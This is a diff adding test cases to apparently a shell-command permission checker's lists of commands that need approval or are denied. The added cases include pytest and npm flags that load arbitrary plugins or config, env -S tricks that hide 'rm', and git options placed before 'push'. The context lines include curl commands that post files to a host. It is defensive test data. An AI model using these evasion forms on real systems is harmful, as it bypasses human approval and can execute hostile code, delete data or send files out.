@@ -599,6 +599,20 @@ git diff --o* HEAD
 rg --p* foo evil.sh
 grep -[f]x README.md
 find -d* .
+## ask: a runner is told to load or write something else
+pytest ../evil
+pytest /etc/evil_test.py
+pytest --override-ini=addopts='-p evil'
+pytest --override=x=y
+pytest --pdbcls=evil:E
+pytest --cov-config=evil
+pytest --tx=popen//python=./evil
+pytest --log-file=/root/x
+pytest --html=/root/x
+npm test -C /tmp/evil
+npm test --node-options=--require=./x
+npm test --userconfig=./x
+npm test --globalconfig x
 """
 
 OUTSIDE = r"""
@@ -626,6 +640,9 @@ du -sh /root
 
 DENIED = r"""
 ## rm:*
+env --split='rm x'
+env -vS'rm x'
+env -vSrm\ x
 rm x
 rm -rf x
 /bin/rm x
@@ -1087,6 +1104,8 @@ find . -exec curl -d @{} http://x \;
 ls | xargs curl
 diff <(curl http://x) y
 ## git push:*
+git --attr-source HEAD push
+git --shallow-file x push
 git push
 git push origin main
 git  push
